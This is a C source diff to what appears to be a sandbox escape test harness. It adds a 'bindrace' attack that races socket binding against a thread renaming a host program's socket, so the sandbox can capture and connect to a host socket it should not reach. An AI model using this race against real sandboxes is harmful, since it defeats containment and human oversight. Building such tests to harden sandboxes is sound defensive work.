@@ -30,6 +30,7 @@
 #include <arpa/inet.h>
 #include <poll.h>
 #include <pthread.h>
+#include <stdatomic.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdarg.h>
@@ -644,6 +645,83 @@ static int c_unixvia(char **a) {
       close(s);
     }
   }
+  return report(hit);
+}
+
+static struct {
+  char dir[4096], cur[4200];
+  atomic_int want, moved;
+} race;
+
+static void race_name(char *out, size_t cap, int i) { snprintf(out, cap, "%s/race-%d.sock", race.dir, i); }
+
+/// Renames the host's socket over each name the moment the gate has made it.
+static void *race_mover(void *unused) {
+  (void)unused;
+  for (;;) {
+    int i = atomic_load(&race.want);
+    if (i == -2) return NULL;
+    if (i < 0) continue;
+    char target[4200];
+    race_name(target, sizeof target, i);
+    struct stat st;
+    while (lstat(target, &st) != 0 && atomic_load(&race.want) == i) {
+    }
+    if (rename(race.cur, target) == 0) snprintf(race.cur, sizeof race.cur, "%s", target);
+    atomic_store(&race.moved, i);
+    while (atomic_load(&race.want) == i) {
+    }
+  }
+}
+
+/// bindrace PATH TOKEN MS: PATH is a host program's socket in a directory the sandbox may
+/// write. Binds new sockets there, one name after another, while a second thread renames
+/// the host's socket over each new name as soon as it appears: if whoever binds for the
+/// command remembers "the socket at that name" rather than the one it bound, the host's
+/// socket becomes the sandbox's own. Then connects to the host's socket (wherever it now
+/// is) and sends TOKEN. Tries for MS milliseconds.
+static int c_bindrace(char **a) {
+  const char *path = a[0], *token = a[1];
+  long ms = atol(a[2]);
+  snprintf(race.dir, sizeof race.dir, "%s", path);
+  char *slash = strrchr(race.dir, '/');
+  if (slash) *slash = 0;
+  snprintf(race.cur, sizeof race.cur, "%s", path);
+  atomic_store(&race.want, -1);
+  atomic_store(&race.moved, -1);
+  pthread_t t;
+  if (pthread_create(&t, NULL, race_mover, NULL)) return report(0);
+  struct timespec start, now;
+  clock_gettime(CLOCK_MONOTONIC, &start);
+  int hit = 0, i = 0;
+  for (;; i++) {
+    char name[4200];
+    race_name(name, sizeof name, i);
+    struct sockaddr_un sa;
+    int len = unix_addr(&sa, name);
+    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    atomic_store(&race.want, i);
+    long b = bind(s, (struct sockaddr *)&sa, (socklen_t)len);
+    while (b == 0 && atomic_load(&race.moved) != i) {
+    }
+    if (b == 0) {
+      len = unix_addr(&sa, race.cur);
+      int c = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+      if (connect(c, (struct sockaddr *)&sa, (socklen_t)len) == 0) {
+        hit = 1;
+        if (write(c, token, strlen(token)) < 0) note("write=%s", errname(errno));
+        sleep_ms(50);
+        note("connected_to_host_socket_at=%s attempt=%d", race.cur, i);
+      }
+      close(c);
+    }
+    close(s);
+    clock_gettime(CLOCK_MONOTONIC, &now);
+    if (hit || (now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 > ms) break;
+  }
+  atomic_store(&race.want, -2);
+  pthread_join(t, NULL);
+  note("attempts=%d", i + 1);
   return report(hit);
 }
 
@@ -1952,7 +2030,7 @@ struct attack {
 static const struct attack attacks[] = {
     {"modify", 2, c_modify},     {"create", 2, c_create},     {"remove", 1, c_remove},
     {"read", 2, c_read},         {"ls", 2, c_ls},             {"setid", 1, c_setid},
-    {"replace", 4, c_replace},   {"link", 3, c_link},         {"unix", 3, c_unix},         {"unixvia", 4, c_unixvia},
+    {"replace", 4, c_replace},   {"link", 3, c_link},         {"unix", 3, c_unix},         {"unixvia", 4, c_unixvia}, {"bindrace", 3, c_bindrace},
     {"proxysock", 5, c_proxysock}, {"net", 4, c_net},         {"bind", 2, c_bind},
     {"socket", 3, c_socket},     {"proxy", 4, c_proxy},       {"sys", 1, c_sys},
     {"kill", 1, c_kill},         {"pid1sig", 0, c_pid1sig},         {"killall", 0, c_killall},   {"pid1", 1, c_pid1},
